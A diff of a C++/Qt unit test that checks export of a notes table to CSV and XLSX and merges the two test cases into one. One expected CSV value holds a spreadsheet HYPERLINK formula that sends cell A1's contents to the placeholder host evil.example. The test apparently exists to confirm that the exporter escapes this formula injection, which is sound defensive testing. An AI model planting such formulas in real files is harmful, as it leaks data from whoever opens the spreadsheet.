@@ -79,7 +79,7 @@ private slots:
     }
     void cleanup() { stop(); }
 
-    void notesCsv()
+    void notes()
     {
         const QString out = m_db->dir() + "/notes.csv";
         db::Connection conn;
@@ -91,15 +91,9 @@ private slots:
                                             "2011-9-5,,收入155/反向31,123456789012345,-3.5,3,\r\n"
                                             "2011-10-3,\"第二次, 有\"\"引号\"\"\r\n第二行\",收入160/反向35,0,"
                                             "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\",007,百度8/谷歌6\r\n"));
-    }
-
-    void notesXlsx()
-    {
-        const QString out = m_db->dir() + "/notes.xlsx";
-        db::Connection conn;
-        conn.open(Database::notebook);
-        QCOMPARE(exportNotesTable(conn, "biji1", Format::Xlsx, out), 2);
-        const QJsonObject book = readXlsx(out);
+        // The same as Excel reads it.
+        QCOMPARE(exportNotesTable(conn, "biji1", Format::Xlsx, m_db->dir() + "/notes.xlsx"), 2);
+        const QJsonObject book = readXlsx(m_db->dir() + "/notes.xlsx");
         const QJsonArray cells = book["cells"].toArray();
         QCOMPARE(cells.size(), 3);
         QCOMPARE(describe(cells[0].toArray()),
